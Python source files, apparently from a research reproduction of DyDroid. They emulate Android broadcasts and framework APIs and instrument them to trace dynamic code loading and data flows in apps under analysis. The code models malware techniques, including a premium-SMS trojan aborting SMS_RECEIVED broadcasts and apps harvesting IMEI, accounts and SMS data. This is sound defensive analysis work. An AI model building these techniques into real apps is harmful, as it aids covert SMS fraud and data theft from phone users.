