"""Ordered broadcasts: the delivery substrate SMS-blocker malware abuses.

Android delivers events like ``SMS_RECEIVED`` as *ordered broadcasts*:
receivers run by descending priority and any of them may call
``abortBroadcast()`` to stop the chain -- the classic premium-SMS-trojan
trick (the Swiss-code-monkeys family "block[s] text message response").

Receivers come from two places, as on Android:

- **manifest-declared** ``<receiver>`` components, registered at install;
- **runtime-registered** via ``Context.registerReceiver``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.runtime.objects import VMObject

SMS_RECEIVED_ACTION = "android.provider.Telephony.SMS_RECEIVED"


@dataclass
class Registration:
    """One registered receiver."""

    package: str
    class_name: str
    action: str
    priority: int = 0
    #: runtime registrations carry the live receiver object.
    instance: Optional[VMObject] = None


@dataclass
class BroadcastRecord:
    """Outcome of one delivery, for tests and reports."""

    action: str
    receivers_run: List[str] = field(default_factory=list)
    aborted_by: Optional[str] = None

    @property
    def aborted(self) -> bool:
        return self.aborted_by is not None


class BroadcastManager:
    """Registration table plus ordered delivery through a VM."""

    def __init__(self) -> None:
        self.registrations: List[Registration] = []
        self.history: List[BroadcastRecord] = []

    def register(
        self,
        package: str,
        class_name: str,
        action: str,
        priority: int = 0,
        instance: Optional[VMObject] = None,
    ) -> Registration:
        registration = Registration(
            package=package,
            class_name=class_name,
            action=action,
            priority=priority,
            instance=instance,
        )
        self.registrations.append(registration)
        return registration

    def receivers_for(self, action: str) -> List[Registration]:
        matching = [r for r in self.registrations if r.action == action]
        return sorted(matching, key=lambda r: -r.priority)

    def deliver(self, vm, action: str, extras: Optional[dict] = None) -> BroadcastRecord:
        """Run the ordered chain; returns what happened."""
        from repro.android.bytecode import MethodRef

        record = BroadcastRecord(action=action)
        intent = VMObject(
            "android.content.Intent",
            payload={"action": action, "extras": dict(extras or {}), "aborted_by": None},
        )
        for registration in self.receivers_for(action):
            if vm.resolve_app_method(registration.class_name, "onReceive") is None:
                continue
            receiver = registration.instance or VMObject(registration.class_name)
            receiver.fields["_current_intent"] = intent
            vm.invoke(
                MethodRef(registration.class_name, "onReceive", 3),
                [receiver, receiver, intent],
            )
            record.receivers_run.append(registration.class_name)
            if intent.payload["aborted_by"] is not None:
                record.aborted_by = intent.payload["aborted_by"]
                break
        self.history.append(record)
        return record
