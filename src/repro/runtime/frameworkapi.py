"""Framework API semantics (java.* / android.*) with instrumentation.

This module is the simulated framework image the apps run against.  Each
implementation receives ``(vm, args)`` where ``args[0]`` is the receiver for
instance methods.  The paper's hook points are implemented exactly where it
placed them:

- ``URL.<init>`` records URL creation; ``URLConnection.getInputStream()``
  emits the URL -> InputStream flow edge (Table I, row 1);
- stream constructors and ``read()``/``write()`` emit the
  InputStream/Buffer/OutputStream/File flow edges (Table I, rows 2-5);
- ``File.delete()`` / ``File.renameTo()`` consult the interception queue and
  silently no-op for protected payload files; rename emits File -> File;
- the class loaders and JNI entry points (installed from
  :mod:`repro.runtime.classloader` and :mod:`repro.runtime.jni`) log DCL
  events with a captured stack trace.
"""

from __future__ import annotations

from typing import Any, List, Optional

from repro.android.apk import Apk
from repro.runtime.instrumentation import FlowNode
from repro.runtime.objects import NULL, VMException, VMObject, object_key
from repro.runtime import vfs as vfs_mod
from repro.runtime.vfs import AccessDeniedError, StorageFullError

# Flow-rule labels matching Table I.
RULE_URL_TO_STREAM = "URL->InputStream"
RULE_STREAM_TO_STREAM = "InputStream->InputStream"
RULE_STREAM_TO_BUFFER = "InputStream->Buffer"
RULE_BUFFER_TO_OUT = "Buffer->OutputStream"
RULE_OUT_TO_OUT = "OutputStream->OutputStream"
RULE_OUT_TO_FILE = "OutputStream->File"
RULE_FILE_TO_FILE = "File->File"
RULE_FILE_TO_STREAM = "File->InputStream"


def install(vm: "DalvikVM") -> None:  # noqa: F821 - circular type reference
    """Register the full framework surface onto a fresh VM."""
    _install_supers(vm)
    _install_lang(vm)
    _install_io(vm)
    _install_net(vm)
    _install_android(vm)
    _install_providers(vm)

    # Class loaders and JNI live in their own modules but are part of the
    # framework image.
    from repro.runtime import classloader, jni

    classloader.install(vm)
    jni.install(vm)


# ---------------------------------------------------------------------------
# helpers shared by the implementations


def file_node(path: str) -> FlowNode:
    """Files are keyed by path -- two objects naming one path are one file."""
    return FlowNode(key="file:" + path, kind="File", detail=path)


def obj_node(obj: VMObject, kind: str, detail: str = "") -> FlowNode:
    return FlowNode(key=object_key(obj), kind=kind, detail=detail)


def require_context(vm) -> "ExecutionContext":  # noqa: F821
    if vm.context is None:
        raise VMException("java.lang.IllegalStateException", "no app context")
    return vm.context


def vm_write_file(vm, path: str, data: bytes, append: bool = False) -> None:
    """Write on behalf of the current app, enforcing storage rules."""
    ctx = require_context(vm)
    try:
        if append and vm.device.vfs.exists(path):
            data = vm.device.vfs.read(path) + data
        vm.device.vfs.write(
            path,
            data,
            owner=ctx.package,
            has_external_permission=ctx.has_external_write,
            api_level=vm.device.config.api_level,
            created_at_ms=vm.device.now_ms(),
        )
    except AccessDeniedError as exc:
        raise VMException("java.io.IOException", "EACCES: {}".format(exc))
    except StorageFullError as exc:
        raise VMException("java.io.IOException", "ENOSPC: {}".format(exc))


def vm_read_file(vm, path: str) -> bytes:
    try:
        return vm.device.vfs.read(path)
    except FileNotFoundError:
        raise VMException("java.io.FileNotFoundException", path)


def _as_path(value: Any) -> str:
    """Accept either a String path or a java.io.File object."""
    if isinstance(value, VMObject) and value.class_name == "java.io.File":
        return value.payload
    if isinstance(value, str):
        return vfs_mod.normalize(value)
    raise VMException("java.lang.NullPointerException", "path")


# ---------------------------------------------------------------------------
# inheritance table


def _install_supers(vm) -> None:
    supers = {
        "java.io.FileInputStream": "java.io.InputStream",
        "java.io.BufferedInputStream": "java.io.InputStream",
        "java.io.DataInputStream": "java.io.InputStream",
        "java.io.ByteArrayInputStream": "java.io.InputStream",
        "java.io.FileOutputStream": "java.io.OutputStream",
        "java.io.BufferedOutputStream": "java.io.OutputStream",
        "java.io.ByteArrayOutputStream": "java.io.OutputStream",
        "java.io.InputStreamReader": "java.io.Reader",
        "java.io.BufferedReader": "java.io.Reader",
        "java.io.FileWriter": "java.io.Writer",
        "java.net.HttpURLConnection": "java.net.URLConnection",
        "java.net.HttpsURLConnection": "java.net.HttpURLConnection",
        "java.net.FtpURLConnection": "java.net.URLConnection",
        "dalvik.system.DexClassLoader": "dalvik.system.BaseDexClassLoader",
        "dalvik.system.PathClassLoader": "dalvik.system.BaseDexClassLoader",
        "dalvik.system.BaseDexClassLoader": "java.lang.ClassLoader",
        "android.app.Activity": "android.content.Context",
        "android.app.Application": "android.content.Context",
        "android.app.Service": "android.content.Context",
    }
    for cls, sup in supers.items():
        vm.register_framework_super(cls, sup)


# ---------------------------------------------------------------------------
# java.lang


def _install_lang(vm) -> None:
    reg = vm.register_api

    reg("java.lang.Object", "<init>", lambda vm_, a: None)
    reg("java.lang.Object", "hashCode", lambda vm_, a: a[0].hash_code() if isinstance(a[0], VMObject) else 0)
    reg("java.lang.Object", "getClass", _object_get_class)
    reg("java.lang.System", "currentTimeMillis", lambda vm_, a: vm_.device.now_ms())
    reg("java.lang.Thread", "sleep", lambda vm_, a: None)
    reg("java.lang.String", "concat", lambda vm_, a: "{}{}".format(a[0] or "", a[1] or ""))
    reg("java.lang.String", "equals", lambda vm_, a: 1 if a[0] == a[1] else 0)
    reg("java.lang.String", "length", lambda vm_, a: len(a[0] or ""))
    reg("java.lang.String", "valueOf", lambda vm_, a: str(a[0]))
    reg("java.lang.StringBuilder", "<init>", lambda vm_, a: _sb_init(a[0]))
    reg("java.lang.StringBuilder", "append", _sb_append)
    reg("java.lang.StringBuilder", "toString", lambda vm_, a: a[0].payload)
    reg("java.lang.Runtime", "getRuntime", lambda vm_, a: VMObject("java.lang.Runtime"))
    reg("java.lang.Class", "forName", _class_for_name)
    reg("java.lang.Class", "newInstance", _class_new_instance)
    reg("java.lang.Class", "getMethod", _class_get_method)
    reg("java.lang.Class", "getName", lambda vm_, a: a[0].payload)
    reg("java.lang.reflect.Method", "invoke", _method_invoke)
    reg("java.lang.RuntimeException", "<init>", lambda vm_, a: None)
    reg("java.lang.Exception", "<init>", lambda vm_, a: None)


def _sb_init(sb: VMObject) -> None:
    sb.payload = ""


def _sb_append(vm, args: List[Any]) -> VMObject:
    sb = args[0]
    sb.payload = (sb.payload or "") + ("" if args[1] is None else str(args[1]))
    return sb


def _object_get_class(vm, args: List[Any]) -> VMObject:
    receiver = args[0]
    name = receiver.class_name if isinstance(receiver, VMObject) else "java.lang.Object"
    return VMObject("java.lang.Class", payload=name)


def _class_for_name(vm, args: List[Any]) -> VMObject:
    name = args[0]
    if name in vm.class_space or vm.is_framework_class(name):
        return VMObject("java.lang.Class", payload=name)
    raise VMException("java.lang.ClassNotFoundException", str(name))


def _class_new_instance(vm, args: List[Any]) -> VMObject:
    name = args[0].payload
    instance = VMObject(name)
    if vm.resolve_app_method(name, "<init>") is not None:
        from repro.android.bytecode import MethodRef

        vm.invoke(MethodRef(name, "<init>", 1), [instance])
    return instance


def _class_get_method(vm, args: List[Any]) -> VMObject:
    cls, name = args[0], args[1]
    return VMObject("java.lang.reflect.Method", payload=(cls.payload, name))


def _method_invoke(vm, args: List[Any]) -> Any:
    from repro.android.bytecode import MethodRef

    method_obj, receiver = args[0], args[1]
    class_name, method_name = method_obj.payload
    call_args = [receiver] + list(args[2:]) if receiver is not None else list(args[2:])
    return vm.invoke(MethodRef(class_name, method_name, len(call_args)), call_args)


# ---------------------------------------------------------------------------
# java.io


def _install_io(vm) -> None:
    reg = vm.register_api

    reg("java.io.File", "<init>", _file_init)
    reg("java.io.File", "getAbsolutePath", lambda vm_, a: a[0].payload)
    reg("java.io.File", "getPath", lambda vm_, a: a[0].payload)
    reg("java.io.File", "exists", lambda vm_, a: 1 if vm_.device.vfs.exists(a[0].payload) else 0)
    reg("java.io.File", "length", _file_length)
    reg("java.io.File", "delete", _file_delete)
    reg("java.io.File", "renameTo", _file_rename_to)
    reg("java.io.File", "mkdirs", lambda vm_, a: 1)
    reg("java.io.FileInputStream", "<init>", _file_input_stream_init)
    reg("java.io.ByteArrayInputStream", "<init>", _byte_array_input_stream_init)
    reg("java.io.BufferedInputStream", "<init>", _wrap_input_stream)
    reg("java.io.DataInputStream", "<init>", _wrap_input_stream)
    reg("java.io.InputStream", "read", _input_stream_read)
    reg("java.io.InputStream", "close", lambda vm_, a: None)
    reg("java.io.InputStream", "available", _input_stream_available)
    reg("java.io.FileOutputStream", "<init>", _file_output_stream_init)
    reg("java.io.BufferedOutputStream", "<init>", _wrap_output_stream)
    reg("java.io.OutputStream", "write", _output_stream_write)
    reg("java.io.OutputStream", "flush", lambda vm_, a: None)
    reg("java.io.OutputStream", "close", lambda vm_, a: None)


def _file_init(vm, args: List[Any]) -> None:
    obj = args[0]
    if len(args) == 3:  # new File(dir, name)
        parent = _as_path(args[1])
        obj.payload = vfs_mod.normalize("{}/{}".format(parent, args[2]))
    else:
        obj.payload = _as_path(args[1])


def _file_length(vm, args: List[Any]) -> int:
    record = vm.device.vfs.stat(args[0].payload)
    return record.size if record else 0


def _file_delete(vm, args: List[Any]) -> int:
    path = args[0].payload
    ctx = require_context(vm)
    if vm.instrumentation.intercept_file_op("delete", path, ctx.package):
        # Silently "succeed" so the app never notices interception.
        return 1
    if not vm.device.vfs.may_write(path, ctx.package, ctx.has_external_write, vm.device.config.api_level):
        return 0
    return 1 if vm.device.vfs.delete(path) else 0


def _file_rename_to(vm, args: List[Any]) -> int:
    src = args[0].payload
    dst = _as_path(args[1])
    ctx = require_context(vm)
    if vm.instrumentation.intercept_file_op("rename", src, ctx.package):
        return 1
    if not vm.device.vfs.may_write(dst, ctx.package, ctx.has_external_write, vm.device.config.api_level):
        return 0
    moved = vm.device.vfs.rename(src, dst)
    if moved:
        vm.instrumentation.emit_flow(file_node(src), file_node(dst), RULE_FILE_TO_FILE)
    return 1 if moved else 0


def _file_input_stream_init(vm, args: List[Any]) -> None:
    stream, path = args[0], _as_path(args[1])
    data = vm_read_file(vm, path)
    stream.payload = {"data": data, "pos": 0, "origin": ("file", path)}
    vm.instrumentation.emit_flow(
        file_node(path), obj_node(stream, "InputStream", path), RULE_FILE_TO_STREAM
    )


def _byte_array_input_stream_init(vm, args: List[Any]) -> None:
    stream, buffer = args[0], args[1]
    data = bytes(buffer.payload) if isinstance(buffer, VMObject) else b""
    stream.payload = {"data": data, "pos": 0, "origin": ("memory", "")}
    if isinstance(buffer, VMObject):
        vm.instrumentation.emit_flow(
            obj_node(buffer, "Buffer"), obj_node(stream, "InputStream"), RULE_STREAM_TO_STREAM
        )


def _wrap_input_stream(vm, args: List[Any]) -> None:
    wrapper, inner = args[0], args[1]
    if not isinstance(inner, VMObject) or inner.payload is None:
        raise VMException("java.lang.NullPointerException", "stream")
    wrapper.payload = inner.payload  # share the cursor like real wrappers do
    vm.instrumentation.emit_flow(
        obj_node(inner, "InputStream"), obj_node(wrapper, "InputStream"), RULE_STREAM_TO_STREAM
    )


def _input_stream_read(vm, args: List[Any]) -> int:
    stream = args[0]
    state = stream.payload
    if state is None:
        raise VMException("java.io.IOException", "stream closed")
    data, pos = state["data"], state["pos"]
    if len(args) < 2 or not isinstance(args[1], VMObject):
        # single-byte read()
        if pos >= len(data):
            return -1
        state["pos"] = pos + 1
        return data[pos]
    buffer = args[1]
    chunk = data[pos: pos + max(len(buffer.payload), 1)]
    if not chunk:
        return -1
    buffer.payload[: len(chunk)] = chunk
    if len(buffer.payload) < len(chunk):
        buffer.payload.extend(chunk[len(buffer.payload):])
    state["pos"] = pos + len(chunk)
    buffer.fields["_filled"] = len(chunk)
    vm.instrumentation.emit_flow(
        obj_node(stream, "InputStream"), obj_node(buffer, "Buffer"), RULE_STREAM_TO_BUFFER
    )
    return len(chunk)


def _input_stream_available(vm, args: List[Any]) -> int:
    state = args[0].payload or {"data": b"", "pos": 0}
    return max(len(state["data"]) - state["pos"], 0)


def _file_output_stream_init(vm, args: List[Any]) -> None:
    stream, path = args[0], _as_path(args[1])
    append = bool(args[2]) if len(args) > 2 else False
    ctx = require_context(vm)
    # Opening for write checks permissions eagerly, like open(2) would.
    if not vm.device.vfs.may_write(path, ctx.package, ctx.has_external_write, vm.device.config.api_level):
        raise VMException("java.io.IOException", "EACCES: {}".format(path))
    if not append:
        vm_write_file(vm, path, b"")
    stream.payload = {"kind": "file", "path": path}


def _wrap_output_stream(vm, args: List[Any]) -> None:
    wrapper, inner = args[0], args[1]
    if not isinstance(inner, VMObject) or inner.payload is None:
        raise VMException("java.lang.NullPointerException", "stream")
    wrapper.payload = inner.payload
    vm.instrumentation.emit_flow(
        obj_node(inner, "OutputStream"), obj_node(wrapper, "OutputStream"), RULE_OUT_TO_OUT
    )


def _output_stream_write(vm, args: List[Any]) -> None:
    stream, buffer = args[0], args[1]
    state = stream.payload
    if state is None:
        raise VMException("java.io.IOException", "stream closed")
    if isinstance(buffer, VMObject):
        filled = buffer.fields.get("_filled", len(buffer.payload))
        data = bytes(buffer.payload[:filled])
        vm.instrumentation.emit_flow(
            obj_node(buffer, "Buffer"), obj_node(stream, "OutputStream"), RULE_BUFFER_TO_OUT
        )
    elif isinstance(buffer, int):
        data = bytes([buffer & 0xFF])
    else:
        data = b""
    if state["kind"] == "file":
        path = state["path"]
        vm_write_file(vm, path, data, append=True)
        vm.instrumentation.emit_flow(
            obj_node(stream, "OutputStream"), file_node(path), RULE_OUT_TO_FILE
        )
    elif state["kind"] == "net":
        vm.device.network.exfil_log.append((state["url"], len(data)))


# ---------------------------------------------------------------------------
# java.net


def _install_net(vm) -> None:
    reg = vm.register_api

    reg("java.net.URL", "<init>", _url_init)
    reg("java.net.URL", "toString", lambda vm_, a: a[0].payload)
    reg("java.net.URL", "openConnection", _url_open_connection)
    reg("java.net.URL", "openStream", _url_open_stream)
    reg("java.net.URLConnection", "connect", lambda vm_, a: None)
    reg("java.net.URLConnection", "getInputStream", _connection_get_input_stream)
    reg("java.net.URLConnection", "getOutputStream", _connection_get_output_stream)
    reg("java.net.URLConnection", "setRequestMethod", lambda vm_, a: None)
    reg("java.net.URLConnection", "getResponseCode", lambda vm_, a: 200)
    reg("java.net.URLConnection", "disconnect", lambda vm_, a: None)


def _url_init(vm, args: List[Any]) -> None:
    obj, spec = args[0], args[1]
    if not isinstance(spec, str) or "://" not in spec:
        raise VMException("java.net.MalformedURLException", str(spec))
    obj.payload = spec


def _url_open_connection(vm, args: List[Any]) -> VMObject:
    url = args[0]
    scheme = url.payload.split("://", 1)[0]
    class_name = {
        "http": "java.net.HttpURLConnection",
        "https": "java.net.HttpsURLConnection",
        "ftp": "java.net.FtpURLConnection",
    }.get(scheme, "java.net.URLConnection")
    return VMObject(class_name, payload={"url_obj": url})


def _connection_get_input_stream(vm, args: List[Any]) -> VMObject:
    connection = args[0]
    url_obj: VMObject = connection.payload["url_obj"]
    spec = url_obj.payload
    try:
        data = vm.device.network.fetch(spec, online=vm.device.is_online())
    except IOError as exc:
        raise VMException("java.io.IOException", str(exc))
    stream = VMObject(
        "java.io.InputStream",
        payload={"data": data, "pos": 0, "origin": ("url", spec)},
    )
    vm.instrumentation.emit_flow(
        obj_node(url_obj, "URL", spec), obj_node(stream, "InputStream"), RULE_URL_TO_STREAM
    )
    return stream


def _url_open_stream(vm, args: List[Any]) -> VMObject:
    connection = _url_open_connection(vm, args)
    return _connection_get_input_stream(vm, [connection])


def _connection_get_output_stream(vm, args: List[Any]) -> VMObject:
    connection = args[0]
    url_obj: VMObject = connection.payload["url_obj"]
    return VMObject("java.io.OutputStream", payload={"kind": "net", "url": url_obj.payload})


# ---------------------------------------------------------------------------
# android.*


def _install_android(vm) -> None:
    reg = vm.register_api

    for lifecycle in ("onCreate", "onStart", "onResume", "onPause", "onStop", "onDestroy", "<init>"):
        reg("android.app.Activity", lifecycle, lambda vm_, a: None)
        reg("android.app.Application", lifecycle, lambda vm_, a: None)
    reg("android.content.Context", "getPackageName", lambda vm_, a: require_context(vm_).package)
    reg("android.content.Context", "getFilesDir", _context_files_dir)
    reg("android.content.Context", "getCacheDir", _context_cache_dir)
    reg("android.content.Context", "getSystemService", _context_get_system_service)
    reg("android.content.Context", "getPackageManager", lambda vm_, a: VMObject("android.content.pm.PackageManager"))
    reg("android.content.Context", "getContentResolver", lambda vm_, a: VMObject("android.content.ContentResolver"))
    reg("android.content.Context", "getAssets", _context_get_assets)
    reg("android.content.Context", "createPackageContext", _create_package_context)
    reg("android.content.Context", "getClassLoader", _context_get_class_loader)
    reg("android.content.Context", "registerReceiver", _register_receiver)
    reg("android.content.Context", "getSharedPreferences", _get_shared_preferences)
    reg("android.content.SharedPreferences", "getString", _prefs_get_string)
    reg("android.content.SharedPreferences", "edit", lambda vm_, a: a[0])
    reg("android.content.SharedPreferences", "putString", _prefs_put_string)
    reg("android.content.SharedPreferences", "commit", lambda vm_, a: 1)
    reg("android.content.SharedPreferences", "apply", lambda vm_, a: None)
    reg("android.content.BroadcastReceiver", "abortBroadcast", _abort_broadcast)
    reg("android.content.Intent", "getAction", lambda vm_, a: a[0].payload.get("action") if isinstance(a[0].payload, dict) else None)
    reg("android.content.Intent", "getStringExtra", _intent_get_string_extra)
    reg("android.content.res.AssetManager", "open", _asset_manager_open)
    reg("android.os.Environment", "getExternalStorageDirectory", lambda vm_, a: _env_external(vm_))
    reg("android.util.Log", "d", _log)
    reg("android.util.Log", "e", _log)
    reg("android.util.Log", "i", _log)
    reg("android.util.Log", "v", _log)
    reg("android.util.Log", "w", _log)

    reg("android.telephony.TelephonyManager", "getDeviceId", lambda vm_, a: vm_.device.config.imei)
    reg("android.telephony.TelephonyManager", "getSubscriberId", lambda vm_, a: vm_.device.config.imsi)
    reg("android.telephony.TelephonyManager", "getSimSerialNumber", lambda vm_, a: vm_.device.config.iccid)
    reg("android.telephony.TelephonyManager", "getLine1Number", lambda vm_, a: vm_.device.config.line1_number)
    reg("android.telephony.SmsManager", "getDefault", lambda vm_, a: VMObject("android.telephony.SmsManager"))
    reg("android.telephony.SmsManager", "sendTextMessage", _send_text_message)

    reg("android.net.ConnectivityManager", "getActiveNetworkInfo", _get_active_network_info)
    reg("android.net.NetworkInfo", "isConnected", lambda vm_, a: 1)

    reg("android.location.LocationManager", "isProviderEnabled", lambda vm_, a: 1 if vm_.device.config.location_enabled else 0)
    reg("android.location.LocationManager", "getLastKnownLocation", _get_last_known_location)
    reg("android.location.Location", "getLatitude", lambda vm_, a: 37)
    reg("android.location.Location", "getLongitude", lambda vm_, a: -122)

    reg("android.accounts.AccountManager", "get", lambda vm_, a: VMObject("android.accounts.AccountManager"))
    reg("android.accounts.AccountManager", "getAccounts", _get_accounts)

    reg("android.content.pm.PackageManager", "getInstalledApplications", _get_installed)
    reg("android.content.pm.PackageManager", "getInstalledPackages", _get_installed)

    reg("android.content.ContentResolver", "query", _content_resolver_query)
    reg("android.database.Cursor", "moveToNext", _cursor_move_to_next)
    reg("android.database.Cursor", "getString", _cursor_get_string)
    reg("android.database.Cursor", "close", lambda vm_, a: None)

    reg("android.provider.Settings$System", "getString", _settings_get_string)
    reg("android.provider.Settings$Secure", "getString", _settings_get_string)


def _context_files_dir(vm, args: List[Any]) -> VMObject:
    path = "{}/files".format(require_context(vm).data_dir)
    return VMObject("java.io.File", payload=path)


def _context_cache_dir(vm, args: List[Any]) -> VMObject:
    path = "{}/cache".format(require_context(vm).data_dir)
    return VMObject("java.io.File", payload=path)


_SERVICE_CLASSES = {
    "phone": "android.telephony.TelephonyManager",
    "connectivity": "android.net.ConnectivityManager",
    "location": "android.location.LocationManager",
    "account": "android.accounts.AccountManager",
}


def _context_get_system_service(vm, args: List[Any]) -> Optional[VMObject]:
    name = args[1]
    class_name = _SERVICE_CLASSES.get(name)
    return VMObject(class_name) if class_name else NULL


def _context_get_assets(vm, args: List[Any]) -> VMObject:
    return VMObject("android.content.res.AssetManager", payload=require_context(vm).apk)


def _create_package_context(vm, args: List[Any]) -> VMObject:
    """``createPackageContext(pkg, CONTEXT_INCLUDE_CODE)``: a foreign
    context whose class loader exposes another app's bytecode (Section II:
    "an application can even use package contexts to retrieve the classes
    contained in another application")."""
    target = args[1]
    if target not in vm.device.installed:
        raise VMException(
            "android.content.pm.PackageManager$NameNotFoundException", str(target)
        )
    return VMObject("android.content.Context", payload={"package": target})


def _context_get_class_loader(vm, args: List[Any]) -> VMObject:
    """The context's class loader; for a foreign package context this
    constructs a PathClassLoader over the other app's APK -- a DCL event."""
    from repro.android.bytecode import MethodRef
    from repro.runtime.vfs import apk_install_path

    context = args[0]
    if not (isinstance(context.payload, dict) and "package" in context.payload):
        # The app's own loader already exists -- returning it is not DCL.
        return VMObject("java.lang.ClassLoader", payload={"kind": "app"})
    target = context.payload["package"]
    loader = VMObject("dalvik.system.PathClassLoader")
    vm.invoke(
        MethodRef("dalvik.system.PathClassLoader", "<init>", 3),
        [loader, apk_install_path(target), NULL],
    )
    return loader


def _asset_manager_open(vm, args: List[Any]) -> VMObject:
    manager, name = args[0], args[1]
    apk: Apk = manager.payload
    entry = "assets/{}".format(name)
    data = apk.entries.get(entry)
    if data is None:
        raise VMException("java.io.FileNotFoundException", entry)
    return VMObject(
        "java.io.InputStream", payload={"data": data, "pos": 0, "origin": ("asset", entry)}
    )


def _env_external(vm) -> VMObject:
    return VMObject("java.io.File", payload=vfs_mod.EXTERNAL_ROOT)


def _prefs_path(vm, name: str) -> str:
    return "{}/shared_prefs/{}.xml".format(require_context(vm).data_dir, name)


def _get_shared_preferences(vm, args: List[Any]) -> VMObject:
    """SharedPreferences backed by a real file under shared_prefs/."""
    import json as _json

    name = args[1] if len(args) > 1 and isinstance(args[1], str) else "default"
    path = _prefs_path(vm, name)
    try:
        data = _json.loads(vm.device.vfs.read(path).decode("utf-8"))
    except (FileNotFoundError, ValueError):
        data = {}
    return VMObject(
        "android.content.SharedPreferences", payload={"path": path, "data": data}
    )


def _prefs_get_string(vm, args: List[Any]) -> Any:
    prefs, key = args[0], args[1]
    default = args[2] if len(args) > 2 else None
    return prefs.payload["data"].get(key, default)


def _prefs_put_string(vm, args: List[Any]) -> VMObject:
    import json as _json

    prefs, key, value = args[0], args[1], args[2]
    prefs.payload["data"][key] = value
    vm_write_file(
        vm, prefs.payload["path"], _json.dumps(prefs.payload["data"]).encode("utf-8")
    )
    return prefs


def _register_receiver(vm, args: List[Any]) -> None:
    """registerReceiver(receiver, action[, priority]) -- runtime receiver."""
    receiver = args[1]
    action = args[2] if len(args) > 2 else None
    priority = args[3] if len(args) > 3 and isinstance(args[3], int) else 0
    if not isinstance(receiver, VMObject) or not isinstance(action, str):
        raise VMException("java.lang.IllegalArgumentException", "registerReceiver")
    ctx = require_context(vm)
    vm.device.broadcasts.register(
        package=ctx.package,
        class_name=receiver.class_name,
        action=action,
        priority=priority,
        instance=receiver,
    )


def _abort_broadcast(vm, args: List[Any]) -> None:
    receiver = args[0]
    intent = receiver.fields.get("_current_intent") if isinstance(receiver, VMObject) else None
    if intent is None or not isinstance(intent.payload, dict):
        raise VMException(
            "java.lang.IllegalStateException", "abortBroadcast outside ordered broadcast"
        )
    intent.payload["aborted_by"] = receiver.class_name


def _intent_get_string_extra(vm, args: List[Any]) -> Optional[str]:
    intent, key = args[0], args[1]
    if isinstance(intent.payload, dict):
        return intent.payload.get("extras", {}).get(key)
    return None


def _log(vm, args: List[Any]) -> int:
    vm.device.logcat.append("{}: {}".format(args[0], args[1]))
    return 0


def _send_text_message(vm, args: List[Any]) -> None:
    # sendTextMessage(dest, serviceCenter, text, sentIntent, deliveryIntent)
    destination = args[1] if len(args) > 1 else ""
    body = args[3] if len(args) > 3 else ""
    vm.device.sms_sent.append((destination, body))


def _get_active_network_info(vm, args: List[Any]) -> Optional[VMObject]:
    if vm.device.is_online():
        return VMObject("android.net.NetworkInfo")
    return NULL


def _get_last_known_location(vm, args: List[Any]) -> Optional[VMObject]:
    if vm.device.config.location_enabled:
        return VMObject("android.location.Location")
    return NULL


def _get_accounts(vm, args: List[Any]) -> VMObject:
    return VMObject("android.accounts.Account[]", payload=list(vm.device.config.accounts))


def _get_installed(vm, args: List[Any]) -> VMObject:
    return VMObject("java.util.List", payload=vm.device.installed_packages())


# ---------------------------------------------------------------------------
# content providers


#: URI constants exposed as static fields (SGET) on provider classes.
PROVIDER_URIS = {
    ("android.provider.ContactsContract$Contacts", "CONTENT_URI"): "content://contacts",
    ("android.provider.CalendarContract$Events", "CONTENT_URI"): "content://calendar",
    ("android.provider.CallLog$Calls", "CONTENT_URI"): "content://call_log",
    ("android.provider.Browser", "BOOKMARKS_URI"): "content://browser",
    ("android.provider.MediaStore$Audio", "CONTENT_URI"): "content://media.audio",
    ("android.provider.MediaStore$Images", "CONTENT_URI"): "content://media.images",
    ("android.provider.MediaStore$Video", "CONTENT_URI"): "content://media.video",
    ("android.provider.Telephony$Mms", "CONTENT_URI"): "content://mms",
    ("android.provider.Telephony$Sms", "CONTENT_URI"): "content://sms",
    ("android.provider.Settings$System", "CONTENT_URI"): "content://settings",
}


def _install_providers(vm) -> None:
    for (class_name, field_name), uri in PROVIDER_URIS.items():
        vm.register_static_field(class_name, field_name, uri)


def _content_resolver_query(vm, args: List[Any]) -> VMObject:
    uri = args[1]
    authority = (uri or "").replace("content://", "")
    rows = list(vm.device.provider_data.get(authority, []))
    if authority == "settings":
        rows = ["{}={}".format(k, v) for k, v in sorted(vm.device.settings.items())]
    return VMObject("android.database.Cursor", payload={"rows": rows, "pos": -1})


def _cursor_move_to_next(vm, args: List[Any]) -> int:
    state = args[0].payload
    state["pos"] += 1
    return 1 if state["pos"] < len(state["rows"]) else 0


def _cursor_get_string(vm, args: List[Any]) -> str:
    state = args[0].payload
    if 0 <= state["pos"] < len(state["rows"]):
        return state["rows"][state["pos"]]
    raise VMException("android.database.CursorIndexOutOfBoundsException", str(state["pos"]))


def _settings_get_string(vm, args: List[Any]) -> Optional[str]:
    # static: getString(resolver, name)
    name = args[1] if len(args) > 1 else None
    return vm.device.settings.get(name)
