"""Java-style stack traces and DyDroid's call-site extraction.

The paper (Fig. 2) determines *who* launched a DCL event by reading the Java
stack trace captured when the class loader is constructed: the top-most
element that is not framework code is the call-site class, and its package
is compared against the application package to attribute the event to the
developer or a third-party SDK.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, List, Optional, Sequence

#: Package prefixes owned by the OS / core libraries.  Frames from these are
#: skipped when locating the call site, exactly as DyDroid skips the
#: framework frames between the app and the hooked constructor.
FRAMEWORK_PREFIXES = (
    "java.",
    "javax.",
    "android.",
    "dalvik.",
    "libcore.",
    "com.android.internal.",
)


@dataclass(frozen=True)
class StackTraceElement:
    """One frame: declaring class and method, innermost-first ordering."""

    class_name: str
    method_name: str

    def __str__(self) -> str:
        return "{}.{}".format(self.class_name, self.method_name)

    @property
    def is_framework(self) -> bool:
        return self.class_name.startswith(FRAMEWORK_PREFIXES)


def call_site_class(stack: Sequence[StackTraceElement]) -> Optional[str]:
    """The class responsible for a hooked call.

    ``stack`` is innermost-first (index 0 is the hooked framework method
    itself).  Returns the first non-framework class walking outward, or None
    when the whole stack is framework code (e.g. the system resolving its own
    libraries).
    """
    for frame in stack:
        if not frame.is_framework:
            return frame.class_name
    return None


def shares_app_package(class_name: str, app_package: str) -> bool:
    """Whether ``class_name`` belongs to the application's own namespace.

    Java packages are hierarchical: ``com.example.app.ui.Widget`` belongs to
    an app packaged as ``com.example.app``.  Third-party SDK classes live
    under their own vendor namespaces.
    """
    return class_name == app_package or class_name.startswith(app_package + ".")


def render(stack: Iterable[StackTraceElement]) -> List[str]:
    """Human-readable stack trace lines, innermost first."""
    return ["  at {}".format(frame) for frame in stack]
