"""The register-machine interpreter (our stand-in for the DVM).

